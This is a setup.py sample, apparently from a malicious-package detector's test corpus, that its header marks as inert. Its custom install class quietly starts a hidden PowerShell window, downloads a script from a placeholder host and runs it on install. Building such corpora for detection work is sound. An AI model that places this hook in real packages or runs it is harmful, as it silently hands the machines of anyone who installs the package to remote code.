# pkgguard corpus 133 (install-hook), modelled on [bertus]; inert, never run.
import subprocess
from setuptools import setup
from setuptools.command.install import install as _install


class PostInstall(_install):
    def run(self):
        _install.run(self)
        subprocess.Popen(
            ["powershell", "-WindowStyle", "Hidden", "-Command",
             "iwr https://cdn.example/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"],
            creationflags=0x08000000,
        )


setup(name="pkg", version="2.0", cmdclass={"install": PostInstall})
